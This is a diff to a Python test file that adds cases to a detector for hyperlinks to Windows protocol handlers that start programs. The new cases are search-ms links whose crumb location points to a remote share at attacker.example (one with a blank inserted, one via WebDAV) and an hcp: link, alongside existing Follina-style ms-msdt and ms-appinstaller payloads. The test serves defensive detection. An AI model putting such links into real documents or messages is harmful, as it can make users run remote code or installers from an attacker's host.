@@ -1258,8 +1258,20 @@ def test_red_team_evasions_and_their_look_alikes(case: Case) -> None:
         "ms-appinstaller:?source=https://attacker.example/x.appinstaller",
         "search-ms:query=x&amp;subquery=%5C%5Cattacker.example%5Cs%5Cx.search-ms",
         "search-ms:query=x&amp;crumb=location%253A%255C%255Cattacker.example%255Cs",  # twice
+        "search-ms:query=x&amp;crumb=location:%20%5C%5Cattacker.example%5Cs",  # a blank first
+        "search-ms:query=x&amp;crumb=location:https://attacker.example/dav",  # WebDAV
+        "hcp://services/search?query=x",
     ],
-    ids=["ms-msdt", "ms-officecmd", "ms-appinstaller", "saved search", "escaped twice"],
+    ids=[
+        "ms-msdt",
+        "ms-officecmd",
+        "ms-appinstaller",
+        "saved search",
+        "escaped twice",
+        "blank before",
+        "web folder",
+        "hcp",
+    ],
 )
 def test_a_hyperlink_to_a_protocol_handler_that_starts_a_program(target: str) -> None:
     # a red team's Follina-style and App Installer links, and searches that read a saved search
